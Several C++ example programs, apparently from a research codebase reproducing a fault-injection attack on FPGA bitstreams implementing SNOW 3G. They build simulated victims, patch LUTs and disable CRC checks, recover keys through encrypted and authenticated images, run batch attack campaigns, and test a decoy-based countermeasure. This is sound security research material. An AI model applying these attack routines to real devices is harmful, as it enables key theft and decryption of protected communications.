    for (const std::string& id : r.accepted) {
      if (!unique_ids.insert(id).second) ++duplicates;
    }
    for (const auto& [id, ms] : r.done_ms) {
      done_ids.insert(id);
      e2e_ms.push_back(ms);
      ++completed_seen;
    }
    submit_ms.insert(submit_ms.end(), r.submit_ms.begin(), r.submit_ms.end());
  }

  // Server-side cross-check: list all jobs, count terminal states for ids
  // this run accepted, and catch ids the server lost track of.
  size_t lost = 0;
  size_t server_terminal = 0;
  {
    service::Client client;
    if (connect(client)) {
      service::Request req;
      req.verb = service::Verb::kList;
      if (const auto resp = client.request(req); resp && resp->is_object()) {
        std::map<std::string, std::string> server_state;
        if (const JsonValue* jobs = resp->find("jobs"); jobs != nullptr && jobs->is_array()) {
          for (const JsonValue& job : jobs->items) {
            const JsonValue* id = job.find("id");
            const JsonValue* state = job.find("state");
            if (id != nullptr && state != nullptr) server_state[id->as_string()] = state->as_string();
          }
        }
        for (const std::string& id : unique_ids) {
          const auto it = server_state.find(id);
          const bool terminal = it != server_state.end() &&
                                (it->second == "done" || it->second == "failed" ||
                                 it->second == "cancelled");
          if (terminal) {
            ++server_terminal;
          } else {
            ++lost;
          }
        }
      }
    }
  }

  const double jobs_per_s = wall_s > 0 ? static_cast<double>(completed_seen) / wall_s : 0;
  JsonWriter w;
  w.begin_object();
  w.field("bench", "service_load")
      .field("clients", cfg.clients)
      .field("tenants", cfg.tenants)
      .field("jobs_per_client", cfg.jobs_per_client)
      .field("trials", cfg.trials)
      .field("mode", cfg.attack ? "attack" : "synthetic")
      .field("wall_seconds", wall_s)
      .field("accepted", accepted)
      .field("completed", completed_seen)
      .field("server_terminal", server_terminal)
      .field("lost", lost)
      .field("duplicates", duplicates)
      .field("rejects_retried", rejects)
      .field("gave_up", gave_up)
      .field("transport_errors", transport_errors)
      .field("jobs_per_s", jobs_per_s)
      .field("submit_p50_ms", percentile(submit_ms, 0.50))
      .field("submit_p90_ms", percentile(submit_ms, 0.90))
      .field("submit_p99_ms", percentile(submit_ms, 0.99))
      .field("e2e_p50_ms", percentile(e2e_ms, 0.50))
      .field("e2e_p90_ms", percentile(e2e_ms, 0.90))
      .field("e2e_p99_ms", percentile(e2e_ms, 0.99));
  w.end_object();
  std::printf("%s\n", w.str().c_str());
  if (!cfg.out_path.empty()) {
    if (std::FILE* f = std::fopen(cfg.out_path.c_str(), "w")) {
      std::fwrite(w.str().data(), 1, w.str().size(), f);
      std::fclose(f);
    } else {
      std::fprintf(stderr, "cannot write %s\n", cfg.out_path.c_str());
    }
  }

  const bool ok = lost == 0 && duplicates == 0 && gave_up == 0 && completed_seen == accepted;
  return ok ? 0 : 1;
}
