// Campaign daemon: a persistent multi-tenant attack-job service over a local
// socket (DESIGN.md §4h).
//
//   ./campaign_server --store /tmp/jobs --unix /tmp/sbm.sock
//   ./campaign_server --store /tmp/jobs --tcp 0 --workers 2
//
// Clients speak the newline-delimited JSON protocol of service/protocol.h
// (submit / status / result / cancel / list / metrics / shutdown); try
// examples/campaign_load.cpp for a multi-tenant load generator, or:
//
//   echo '{"verb":"submit","job":{"tenant":"t0","options":{"trials":4}}}' |
//     nc -U /tmp/sbm.sock
//
// Kill the daemon at any instant and restart it with the same --store: jobs
// that were queued or running are rescheduled and resume from their
// checkpoints, with final fingerprints identical to an uninterrupted run.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>

#include "common/json.h"
#include "obs/metrics.h"
#include "obs/obs.h"
#include "service/server.h"
#include "service/service.h"

namespace {

using namespace sbm;

volatile std::sig_atomic_t g_signal = 0;

void on_signal(int sig) { g_signal = sig; }

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s --store DIR [--unix PATH] [--tcp PORT] [options]\n"
               "\n"
               "  --store DIR          job store directory (required)\n"
               "  --unix PATH          listen on a unix-domain socket at PATH\n"
               "  --tcp PORT           listen on 127.0.0.1:PORT (0 = ephemeral;\n"
               "                       the resolved port is printed on stdout)\n"
               "  --workers N          concurrent job slots (default 1)\n"
               "  --pool-threads N     shared trial/scan pool size (default: hardware)\n"
               "  --tenant-cap N       per-tenant queue capacity (default 64)\n"
               "  --total-cap N        global queue capacity (default 1024)\n"
               "  --no-resume          do not reschedule in-flight jobs from the store\n"
               "  --metrics            enable the obs metrics registry\n"
               "  --verbose            log job lifecycle events to stderr\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  service::ServiceOptions svc_opt;
  service::ServerOptions srv_opt;
  bool metrics = false;
  bool tcp_set = false;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s needs a value\n", arg.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--store") {
      svc_opt.store_dir = next();
    } else if (arg == "--unix") {
      srv_opt.unix_path = next();
    } else if (arg == "--tcp") {
      srv_opt.tcp = true;
      srv_opt.tcp_port = static_cast<u16>(std::strtoul(next(), nullptr, 10));
      tcp_set = true;
    } else if (arg == "--workers") {
      svc_opt.workers = std::strtoul(next(), nullptr, 10);
    } else if (arg == "--pool-threads") {
      svc_opt.pool_threads = static_cast<unsigned>(std::strtoul(next(), nullptr, 10));
    } else if (arg == "--tenant-cap") {
      svc_opt.limits.per_tenant_capacity = std::strtoul(next(), nullptr, 10);
    } else if (arg == "--total-cap") {
      svc_opt.limits.total_capacity = std::strtoul(next(), nullptr, 10);
    } else if (arg == "--no-resume") {
      svc_opt.resume_on_start = false;
    } else if (arg == "--metrics") {
      metrics = true;
    } else if (arg == "--verbose") {
      svc_opt.verbose = true;
      srv_opt.verbose = true;
    } else {
      return usage(argv[0]);
    }
  }
  if (svc_opt.store_dir.empty()) return usage(argv[0]);
  if (srv_opt.unix_path.empty() && !tcp_set) {
    std::fprintf(stderr, "need --unix and/or --tcp\n");
    return usage(argv[0]);
  }
  if (metrics) obs::set_mode(obs::Mode::kMetrics);

  service::CampaignService service(svc_opt);
  service::SocketServer server(service, srv_opt);
  std::string error;
  if (!server.start(&error)) {
    std::fprintf(stderr, "cannot start server: %s\n", error.c_str());
    return 1;
  }

  std::signal(SIGINT, on_signal);
  std::signal(SIGTERM, on_signal);

  {
    // One machine-readable line so scripts can find the endpoint (the
    // ephemeral TCP port in particular) and the resumed-job count.
    JsonWriter w;
    w.begin_object();
    w.field("listening", true);
    if (!srv_opt.unix_path.empty()) w.field("unix", srv_opt.unix_path);
    if (srv_opt.tcp) w.field("tcp_port", u64{server.tcp_port()});
    w.field("workers", svc_opt.workers)
        .field("resumed_jobs", service.stats().resumed_jobs)
        .field("queued", service.stats().queued);
    w.end_object();
    std::printf("%s\n", w.str().c_str());
    std::fflush(stdout);
  }

  // The reactor owns the sockets; this thread just waits for either a
  // client "shutdown" verb (reactor exits by itself) or a signal.
  while (g_signal == 0 && server.running()) {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }

  if (g_signal != 0) {
    // Signal: stop like a crash would — drop connections, interrupt running
    // jobs after their in-flight trials, leave everything resumable.
    std::fprintf(stderr, "signal %d: hard stop (jobs stay resumable)\n",
                 static_cast<int>(g_signal));
    server.stop();
    service.stop_hard();
  } else {
    server.wait();
    server.stop();
    if (server.shutdown_drain()) {
      service.drain();
    } else {
      service.stop_hard();
    }
  }

  const service::CampaignService::Stats stats = service.stats();
  JsonWriter w;
  w.begin_object();
  w.field("shutdown", server.shutdown_requested() ? "client" : "signal")
      .field("submitted", stats.submitted)
      .field("completed", stats.completed)
      .field("failed", stats.failed)
      .field("cancelled", stats.cancelled)
      .field("rejected", stats.rejected)
      .field("still_queued", stats.queued)
      .field("still_running", stats.running);
  w.end_object();
  std::printf("%s\n", w.str().c_str());
  return 0;
}
