// The Section VII countermeasure: trivial-cut mapping of the target node
// and five same-function decoy XOR vectors.
//
// Shows (a) that the whole-table candidate scans collapse (Table VI), (b)
// that the only remaining handle — "2-input XOR in one half" — drowns the
// 32 targets among hundreds of candidates, (c) the resulting exhaustive
// search complexity, (d) the timing cost, and (e) that the full attack
// pipeline indeed fails against the protected bitstream.
#include <cstdio>

#include "attack/countermeasure.h"
#include "attack/pipeline.h"
#include "attack/scan.h"
#include "fpga/system.h"
#include "mapper/sta.h"

using namespace sbm;

int main() {
  fpga::SystemOptions popt;
  popt.protected_variant = true;
  std::printf("building protected and unprotected variants...\n");
  const fpga::System prot = fpga::build_system(popt);
  const fpga::System plain = fpga::build_system();

  // (a) whole-table scans collapse.
  size_t plain_total = 0, prot_total = 0;
  for (const auto& fc : attack::scan_family(plain.golden.bytes, logic::table2_family())) {
    plain_total += fc.count();
  }
  for (const auto& fc : attack::scan_family(prot.golden.bytes, logic::table2_family())) {
    prot_total += fc.count();
  }
  std::printf("\nTable II family hits: unprotected = %zu, protected = %zu\n", plain_total,
              prot_total);

  // (b) XOR2-half candidates.
  const auto halves = attack::find_xor2_halves(prot.golden.bytes);
  std::printf("XOR2-in-one-half candidates on the protected bitstream: %zu\n", halves.size());
  std::printf("  (32 of them are the real target v; 160 are planted decoys; the rest are\n"
              "   natural XOR covers — indistinguishable without exhaustive trial)\n");

  // (c) complexity.
  const unsigned n = static_cast<unsigned>(halves.size());
  std::printf("exhaustive-search complexity after pruning the z path:\n");
  std::printf("  log2 C(%u, 32) = %.1f bits (paper: C(171,32) ~ 2^115)\n", n - 32,
              attack::log2_binomial(n - 32, 32));
  std::printf("  minimum decoy ratio for 2^128: x >= %.2f; this design uses x = 5\n",
              attack::min_decoy_ratio(32, 128.0));

  // (d) timing cost.
  const auto sta_plain = mapper::run_sta(plain.design.net, plain.mapped);
  const auto sta_prot = mapper::run_sta(prot.design.net, prot.mapped);
  std::printf("\ntiming: %.3f ns -> %.3f ns (+%.1f%%), critical path now %s -> %s\n",
              sta_plain.critical_delay_ns, sta_prot.critical_delay_ns,
              100.0 * (sta_prot.critical_delay_ns / sta_plain.critical_delay_ns - 1.0),
              sta_prot.critical.start.c_str(), sta_prot.critical.end.c_str());

  // (e) the attack fails.
  const snow3g::Iv iv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};
  attack::DeviceOracle oracle(prot, iv);
  attack::PipelineConfig cfg;
  cfg.iv = iv;
  attack::Attack attack(oracle, prot.golden.bytes, cfg);
  const attack::AttackResult res = attack.execute();
  std::printf("\nfull attack against the protected bitstream: %s\n",
              res.success ? "SUCCEEDED (countermeasure broken!)" : "failed, as intended");
  if (!res.success) std::printf("  pipeline stopped at: %s\n", res.failure.c_str());
  return res.success ? 1 : 0;
}
