// Quickstart: build a victim FPGA system, inspect its bitstream with
// FINDLUT, and demonstrate a first targeted fault injection.
//
//   1. Synthesize the gate-level SNOW 3G design, map it onto 6-LUTs, pack
//      the slices and emit a 7-series-like bitstream with the key embedded.
//   2. Run FINDLUT (Algorithm 1) for a guessed candidate function and list
//      the byte positions of matching LUTs.
//   3. Stuck one matching LUT at constant 0 directly in the bitstream,
//      disable the CRC check (Section V-B), reload, and watch exactly one
//      keystream bit die — the paper's LUT1 verification step.
#include <bit>
#include <cstdio>

#include "attack/findlut.h"
#include "attack/scan.h"
#include "bitstream/patcher.h"
#include "common/hex.h"
#include "fpga/system.h"

using namespace sbm;

int main() {
  // --- 1. build the victim ---------------------------------------------------
  std::printf("building the victim system (synthesis -> map -> place -> bitstream)...\n");
  const fpga::System sys = fpga::build_system();
  std::printf("  gates: %zu, LUTs: %zu, physical sites: %zu, bitstream: %zu bytes\n\n",
              sys.design.net.gate_count(), sys.mapped.lut_count(), sys.placed.phys.size(),
              sys.golden.bytes.size());

  // --- 2. FINDLUT ------------------------------------------------------------
  std::printf("scanning for z-path candidates (Table II families):\n");
  for (const auto& fc : attack::scan_family(sys.golden.bytes, logic::table2_family())) {
    if (fc.count() == 0) continue;
    std::printf("  %-4s %-34s -> %zu candidate LUT(s)\n", fc.candidate.name.c_str(),
                fc.candidate.formula.c_str(), fc.count());
  }

  // Pick the strongest z-path candidate.
  attack::FamilyCount best;
  for (const auto& fc : attack::scan_family(sys.golden.bytes, attack::attack_family())) {
    if (fc.candidate.path == logic::TargetPath::kKeystream && fc.count() > best.count()) {
      best = fc;
    }
  }
  std::printf("\nstrongest z-path candidate: %s with %zu matches\n",
              best.candidate.name.c_str(), best.count());

  // --- 3. one fault injection ------------------------------------------------
  const snow3g::Iv iv = {0x01020304, 0x05060708, 0x090a0b0c, 0x0d0e0f10};
  fpga::Device clean = sys.make_device();
  if (!clean.configure(sys.golden.bytes)) {
    std::printf("unexpected: golden bitstream rejected: %s\n", clean.error().c_str());
    return 1;
  }
  const std::vector<u32> golden = clean.keystream(iv, 8);
  std::printf("\nclean keystream   : ");
  for (const u32 z : golden) std::printf("%s ", hex32(z).c_str());

  auto faulty = sys.golden.bytes;
  bitstream::disable_crc(faulty);
  const auto& m = best.matches.front();
  bitstream::write_lut_init(faulty, m.byte_index, bitstream::Layout::chunk_stride(), m.order, 0);

  fpga::Device dev = sys.make_device();
  if (!dev.configure(faulty)) {
    std::printf("\nfaulty bitstream rejected: %s\n", dev.error().c_str());
    return 1;
  }
  const std::vector<u32> z = dev.keystream(iv, 8);
  std::printf("\nfaulted keystream : ");
  for (const u32 w : z) std::printf("%s ", hex32(w).c_str());
  u32 diff = 0;
  for (size_t t = 0; t < z.size(); ++t) diff |= z[t] ^ golden[t];
  std::printf("\ndifference mask   : %s", hex32(diff).c_str());
  if (std::popcount(diff) == 1) {
    std::printf("  -> exactly one keystream bit died: this LUT is LUT1[%d]\n",
                std::countr_zero(diff));
  } else {
    std::printf("  -> not a clean single-bit kill; candidate rejected\n");
  }
  std::printf("\nnext: run `full_attack` for the complete key recovery.\n");
  return 0;
}
