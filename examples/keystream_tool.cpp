// Command-line SNOW 3G tool exercising the cipher library directly:
//
//   keystream_tool keystream <key-hex32 x4> <iv-hex32 x4> [words]
//   keystream_tool f8 <ck-hex128> <count> <bearer> <dir> <data-hex>
//   keystream_tool f9 <ik-hex128> <count> <fresh> <dir> <data-hex>
//   keystream_tool tables        (reproduce the paper's Tables III/IV/V)
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <stdexcept>
#include <string>

#include "common/hex.h"
#include "snow3g/f8f9.h"
#include "snow3g/reverse.h"
#include "snow3g/snow3g.h"

using namespace sbm;
using namespace sbm::snow3g;

namespace {

Key128 parse_key128(const char* hex) {
  const auto bytes = parse_hex_bytes(hex);
  if (bytes.size() != 16) throw std::invalid_argument("need 32 hex digits");
  Key128 k{};
  std::copy(bytes.begin(), bytes.end(), k.begin());
  return k;
}

int cmd_keystream(int argc, char** argv) {
  if (argc < 8) {
    std::fprintf(stderr, "usage: keystream k0 k1 k2 k3 iv0 iv1 iv2 iv3 [words]\n");
    return 2;
  }
  Key k{};
  Iv iv{};
  for (int i = 0; i < 4; ++i) k[static_cast<size_t>(i)] = parse_hex32(argv[i]);
  for (int i = 0; i < 4; ++i) iv[static_cast<size_t>(i)] = parse_hex32(argv[4 + i]);
  const size_t words = argc > 8 ? static_cast<size_t>(std::atoll(argv[8])) : 16;
  Snow3g cipher(k, iv);
  for (size_t t = 0; t < words; ++t) std::printf("%s\n", hex32(cipher.next()).c_str());
  return 0;
}

int cmd_f8(int argc, char** argv) {
  if (argc < 5) {
    std::fprintf(stderr, "usage: f8 <ck-hex128> <count> <bearer> <dir> <data-hex>\n");
    return 2;
  }
  const Key128 ck = parse_key128(argv[0]);
  const u32 count = static_cast<u32>(std::strtoul(argv[1], nullptr, 0));
  const u32 bearer = static_cast<u32>(std::strtoul(argv[2], nullptr, 0));
  const u32 dir = static_cast<u32>(std::strtoul(argv[3], nullptr, 0));
  auto data = parse_hex_bytes(argv[4]);
  f8(ck, count, bearer, dir, data, data.size() * 8);
  std::printf("%s\n", hex_bytes(data).c_str());
  return 0;
}

int cmd_f9(int argc, char** argv) {
  if (argc < 5) {
    std::fprintf(stderr, "usage: f9 <ik-hex128> <count> <fresh> <dir> <data-hex>\n");
    return 2;
  }
  const Key128 ik = parse_key128(argv[0]);
  const u32 count = static_cast<u32>(std::strtoul(argv[1], nullptr, 0));
  const u32 fresh = static_cast<u32>(std::strtoul(argv[2], nullptr, 0));
  const u32 dir = static_cast<u32>(std::strtoul(argv[3], nullptr, 0));
  const auto data = parse_hex_bytes(argv[4]);
  std::printf("%s\n", hex32(f9(ik, count, fresh, dir, data, data.size() * 8)).c_str());
  return 0;
}

int cmd_tables() {
  std::printf("Table III (key-independent keystream):\n");
  Snow3g t3({}, {}, FaultConfig::key_independent());
  for (int t = 1; t <= 16; ++t) std::printf("  %2d  %s\n", t, hex32(t3.next()).c_str());

  const Key k = {0x2bd6459f, 0x82c5b300, 0x952c4910, 0x4881ff48};
  const Iv iv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};
  std::printf("Table IV (faulty keystream):\n");
  Snow3g t4(k, iv, FaultConfig::full_attack());
  const auto z = t4.keystream(16);
  for (int t = 0; t < 16; ++t) std::printf("  %2d  %s\n", t + 1, hex32(z[static_cast<size_t>(t)]).c_str());

  std::printf("Table V (recovered S^0):\n");
  const LfsrState s0 = state_from_faulty_keystream(z);
  for (int i = 0; i < 16; ++i) std::printf("  %2d  %s\n", i, hex32(s0[static_cast<size_t>(i)]).c_str());
  const auto secrets = extract_key(s0);
  if (secrets) {
    std::printf("key: %s %s %s %s\n", hex32(secrets->key[0]).c_str(),
                hex32(secrets->key[1]).c_str(), hex32(secrets->key[2]).c_str(),
                hex32(secrets->key[3]).c_str());
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: %s keystream|f8|f9|tables ...\n", argv[0]);
    return 2;
  }
  try {
    const std::string cmd = argv[1];
    if (cmd == "keystream") return cmd_keystream(argc - 2, argv + 2);
    if (cmd == "f8") return cmd_f8(argc - 2, argv + 2);
    if (cmd == "f9") return cmd_f9(argc - 2, argv + 2);
    if (cmd == "tables") return cmd_tables();
  } catch (const std::exception& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 1;
  }
  std::fprintf(stderr, "unknown command\n");
  return 2;
}
