// Attacking an encrypted, HMAC-authenticated bitstream (paper Fig. 1 and
// Section IV-A).
//
// The device only accepts AES-256 encrypted images whose HMAC verifies.
// Following the paper's attack model, the encryption key K_E has leaked
// through a side channel ([16]-[18]); the authentication key K_A travels
// INSIDE the encrypted image, so the attacker can decrypt, read K_A, patch
// the LUTs, recompute the HMAC and re-encrypt.  The cryptography is real
// (AES-256-CTR + HMAC-SHA-256); only the side-channel step is assumed.
#include <cstdio>

#include "attack/pipeline.h"
#include "bitstream/secure.h"
#include "common/hex.h"
#include "common/rng.h"
#include "fpga/system.h"
#include "snow3g/f8f9.h"

using namespace sbm;

namespace {

/// Oracle that talks to a device which only boots encrypted images.
class EncryptedDeviceOracle : public attack::Oracle {
 public:
  EncryptedDeviceOracle(const fpga::System& sys, const crypto::Aes256Key& ke,
                        const bitstream::AuthKey& ka, const snow3g::Iv& iv)
      : sys_(sys), ke_(ke), ka_(ka), iv_(iv) {}

  runtime::ProbeOutcome run(std::span<const u8> bitstream, size_t words) override {
    ++runs_;
    const auto envelope = bitstream::protect_bitstream(bitstream, ke_, ka_, {});
    fpga::Device dev = sys_.make_device();
    if (!dev.configure_encrypted(envelope, ke_)) return std::nullopt;
    return dev.keystream(iv_, words);
  }

 private:
  const fpga::System& sys_;
  crypto::Aes256Key ke_;
  bitstream::AuthKey ka_;
  snow3g::Iv iv_;
};

}  // namespace

int main() {
  Rng rng(0x5eC2e7);
  fpga::SystemOptions opt;
  opt.key = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  const fpga::System sys = fpga::build_system(opt);

  // The vendor protects the bitstream.
  crypto::Aes256Key ke{};
  bitstream::AuthKey ka{};
  for (auto& b : ke) b = static_cast<u8>(rng.next_u64());
  for (auto& b : ka) b = static_cast<u8>(rng.next_u64());
  const auto envelope = bitstream::protect_bitstream(sys.golden.bytes, ke, ka, {});
  std::printf("fielded product: encrypted+authenticated bitstream, %zu bytes\n",
              envelope.size());

  // Step 1 (assumed, per the attack model): K_E leaks via a side channel.
  std::printf("step 1: K_E recovered by side-channel analysis (simulated disclosure)\n");

  // Step 2: decrypt, verify, and read K_A out of the image.
  const auto stolen = bitstream::unprotect_bitstream(envelope, ke);
  if (!stolen.ok) {
    std::printf("unprotect failed: %s\n", stolen.error.c_str());
    return 1;
  }
  std::printf("step 2: image decrypted; K_A extracted from inside the envelope: %s...\n",
              hex_bytes(std::span<const u8>(stolen.k_a.data(), 4)).c_str());

  // Step 3: run the full attack; every probe is re-MACed and re-encrypted.
  const snow3g::Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  EncryptedDeviceOracle oracle(sys, ke, stolen.k_a, iv);
  attack::PipelineConfig cfg;
  cfg.iv = iv;
  attack::Attack attack(oracle, stolen.plain, cfg);
  const attack::AttackResult res = attack.execute();
  if (!res.success) {
    std::printf("attack failed: %s\n", res.failure.c_str());
    return 1;
  }
  std::printf("step 3: key recovered through the encrypted envelope: %s %s %s %s\n",
              hex32(res.secrets.key[0]).c_str(), hex32(res.secrets.key[1]).c_str(),
              hex32(res.secrets.key[2]).c_str(), hex32(res.secrets.key[3]).c_str());
  std::printf("        matches the planted key: %s (%zu oracle runs)\n",
              res.secrets.key == opt.key ? "YES" : "NO", res.oracle_runs);

  // Step 4: decrypt previously captured UEA2 traffic with the stolen key.
  snow3g::Key128 ck{};
  for (int w = 0; w < 4; ++w) {
    store_be32(ck.data() + 4 * (3 - w), opt.key[static_cast<size_t>(w)]);
  }
  std::vector<u8> message = {'a', 't', 't', 'a', 'c', 'k', ' ', 'a', 't', ' ',
                             'd', 'a', 'w', 'n', '!', '!'};
  const std::vector<u8> plaintext = message;
  snow3g::f8(ck, 0x1234, 5, 0, message, message.size() * 8);  // victim encrypts

  snow3g::Key128 ck_stolen{};
  for (int w = 0; w < 4; ++w) {
    store_be32(ck_stolen.data() + 4 * (3 - w), res.secrets.key[static_cast<size_t>(w)]);
  }
  snow3g::f8(ck_stolen, 0x1234, 5, 0, message, message.size() * 8);  // attacker decrypts
  std::printf("step 4: captured UEA2 ciphertext decrypted with the stolen key: \"%.*s\"\n",
              static_cast<int>(message.size()), reinterpret_cast<const char*>(message.data()));
  return message == plaintext ? 0 : 1;
}
