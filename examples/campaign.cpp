// Batch attack campaign: M independent randomized attack trials fanned out
// across the worker pool, aggregated into a machine-readable JSON report.
//
//   build/examples/campaign                        # 8 trials, all cores
//   build/examples/campaign --trials 16 --threads 4 --protected-every 4
//   build/examples/campaign --json report.json     # write JSON to a file
//
// Every trial gets its own victim (random key, IV and placement seed; every
// k-th trial the Section VII protected variant, which the attack is expected
// to *fail* against).  The report is identical for any --threads value
// except the wall-clock fields.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "campaign/campaign.h"
#include "obs/metrics.h"
#include "simd/backend.h"
#include "obs/obs.h"
#include "obs/trace.h"

using namespace sbm;

namespace {

void usage(const char* argv0) {
  std::printf(
      "usage: %s [options]\n"
      "  --trials N           number of independent attack trials (default 8)\n"
      "  --threads N          worker threads, 0 = hardware concurrency (default 0)\n"
      "  --seed S             master seed (default 0x5eedc0de)\n"
      "  --protected-every K  every K-th trial uses the protected design (default 0 = never)\n"
      "  --crack              run the oracle-guided countermeasure cracker instead of the\n"
      "                       key-recovery attack: every trial builds a protected victim\n"
      "                       and adaptively disambiguates its decoy hypothesis set,\n"
      "                       reporting adaptive probes against the static C(n-32,32) bound\n"
      "  --equalized          crack the response-equalized (strengthened) countermeasure;\n"
      "                       the expected verdict flips to a proof of ambiguity\n"
      "  --words W            keystream words per probe (default 16)\n"
      "  --batch-width W      oracle probes packed per bit-sliced batch, 1-512; clamped\n"
      "                       at runtime to the active SIMD backend's width (default 512)\n"
      "  --simd BACKEND       force the SIMD backend: scalar|avx2|avx512 (default: widest\n"
      "                       the host supports; falls back with a note if unavailable)\n"
      "  --no-cache           disable the probe cache\n"
      "  --serial-scan        keep FINDLUT scans single-threaded inside trials\n"
      "  --noise PROFILE      unreliable-hardware model: none|mild|harsh, optional @seed\n"
      "                       suffix (e.g. mild@0x123); probes are then confirmed by\n"
      "                       agreement voting, overhead reported per trial\n"
      "  --death P            per-run device death probability stacked on the noise\n"
      "                       profile (give after --noise, which resets it)\n"
      "  --fleet N            board pool size; N >= 2 fans probes across a health-\n"
      "                       tracked fleet that survives board death by migrating\n"
      "                       unanswered probes onto a spare mid-phase\n"
      "  --fleet-factors L    comma-separated per-board fault-rate multipliers, e.g.\n"
      "                       1e9,0,0,0 = board 0 dies fast, spares quiet (default:\n"
      "                       every board at 1.0)\n"
      "  --hedge              duplicate ragged tail chunks on a second healthy board\n"
      "                       and take the first usable answer\n"
      "  --controller KIND    probe confirmation controller: static|adaptive (default\n"
      "                       static); adaptive stops each probe as soon as the\n"
      "                       wrong-accept odds clear the bound — same logical results,\n"
      "                       roughly half the physical runs on a mildly noisy board\n"
      "  --checkpoint FILE    persist completed trials to FILE after each finish\n"
      "  --resume             skip trials FILE already covers (same campaign only)\n"
      "  --json FILE          also write the JSON report to FILE\n"
      "  --trace-out FILE     write a Chrome trace_event JSON trace to FILE\n"
      "                       (load in Perfetto / chrome://tracing; implies tracing on)\n"
      "  --metrics-out FILE   write the process-wide metrics snapshot to FILE\n"
      "                       (implies metrics on)\n"
      "  --quiet              suppress per-trial progress lines\n",
      argv0);
}

}  // namespace

int main(int argc, char** argv) {
  campaign::CampaignOptions opt;
  opt.verbose = true;
  std::string json_path;
  std::string trace_path;
  std::string metrics_path;

  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", arg.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--trials") {
      opt.trials = static_cast<size_t>(std::strtoull(next(), nullptr, 0));
    } else if (arg == "--threads") {
      opt.threads = static_cast<unsigned>(std::strtoul(next(), nullptr, 0));
    } else if (arg == "--seed") {
      opt.seed = std::strtoull(next(), nullptr, 0);
    } else if (arg == "--protected-every") {
      opt.protected_every = static_cast<size_t>(std::strtoull(next(), nullptr, 0));
    } else if (arg == "--crack") {
      opt.kind = "crack";
    } else if (arg == "--equalized") {
      opt.equalized = true;
    } else if (arg == "--words") {
      opt.words = static_cast<size_t>(std::strtoull(next(), nullptr, 0));
    } else if (arg == "--batch-width") {
      opt.batch_width = static_cast<unsigned>(std::strtoul(next(), nullptr, 0));
      if (opt.batch_width == 0 || opt.batch_width > simd::kMaxLanes) {
        std::fprintf(stderr, "--batch-width must be 1-%u\n", simd::kMaxLanes);
        return 2;
      }
    } else if (arg == "--simd") {
      const char* spec = next();
      const auto backend = simd::parse_backend(spec);
      if (!backend) {
        std::fprintf(stderr, "unknown SIMD backend '%s' (want scalar|avx2|avx512)\n", spec);
        return 2;
      }
      const simd::Backend actual = simd::set_active_backend(*backend);
      if (actual != *backend) {
        std::fprintf(stderr, "note: %s unavailable on this host/build, using %s\n",
                     simd::backend_name(*backend), simd::backend_name(actual));
      }
    } else if (arg == "--no-cache") {
      opt.use_probe_cache = false;
    } else if (arg == "--serial-scan") {
      opt.scan_parallel = false;
    } else if (arg == "--noise") {
      const char* spec = next();
      const auto profile = faultsim::NoiseProfile::named(spec);
      if (!profile) {
        std::fprintf(stderr, "unknown noise profile '%s' (want none|mild|harsh[@seed])\n",
                     spec);
        return 2;
      }
      opt.noise = *profile;
    } else if (arg == "--death") {
      opt.noise.death = std::strtod(next(), nullptr);
    } else if (arg == "--fleet") {
      opt.fleet_size = static_cast<unsigned>(std::strtoul(next(), nullptr, 0));
      if (opt.fleet_size == 0) {
        std::fprintf(stderr, "--fleet must be >= 1\n");
        return 2;
      }
    } else if (arg == "--fleet-factors") {
      opt.fleet_noise_factors.clear();
      const char* s = next();
      char* end = nullptr;
      for (;;) {
        const double v = std::strtod(s, &end);
        if (end == s || v < 0) {
          std::fprintf(stderr, "--fleet-factors wants a comma-separated list of "
                               "non-negative multipliers\n");
          return 2;
        }
        opt.fleet_noise_factors.push_back(v);
        if (*end != ',') break;
        s = end + 1;
      }
    } else if (arg == "--hedge") {
      opt.fleet_hedge = true;
    } else if (arg == "--controller") {
      const char* spec = next();
      const auto kind = runtime::parse_controller_kind(spec);
      if (!kind) {
        std::fprintf(stderr, "unknown controller '%s' (want static|adaptive)\n", spec);
        return 2;
      }
      opt.controller = *kind;
    } else if (arg == "--checkpoint") {
      opt.checkpoint_path = next();
    } else if (arg == "--resume") {
      opt.resume = true;
    } else if (arg == "--json") {
      json_path = next();
    } else if (arg == "--trace-out") {
      trace_path = next();
    } else if (arg == "--metrics-out") {
      metrics_path = next();
    } else if (arg == "--quiet") {
      opt.verbose = false;
    } else if (arg == "--help" || arg == "-h") {
      usage(argv[0]);
      return 0;
    } else {
      std::fprintf(stderr, "unknown option %s\n", arg.c_str());
      usage(argv[0]);
      return 2;
    }
  }

  // The output flags turn the corresponding obs bits on in addition to
  // whatever SBM_OBS asked for; with neither flag nor env, obs stays off.
  int extra_mode = static_cast<int>(obs::mode());
  if (!trace_path.empty()) extra_mode |= static_cast<int>(obs::Mode::kTrace);
  if (!metrics_path.empty()) extra_mode |= static_cast<int>(obs::Mode::kMetrics);
  obs::set_mode(static_cast<obs::Mode>(extra_mode));

  std::printf("campaign: %zu trials, %u threads requested, seed 0x%llx\n", opt.trials,
              opt.threads, static_cast<unsigned long long>(opt.seed));
  const campaign::CampaignReport report = campaign::run_campaign(opt);

  if (!trace_path.empty()) {
    if (obs::Tracer::global().write(trace_path)) {
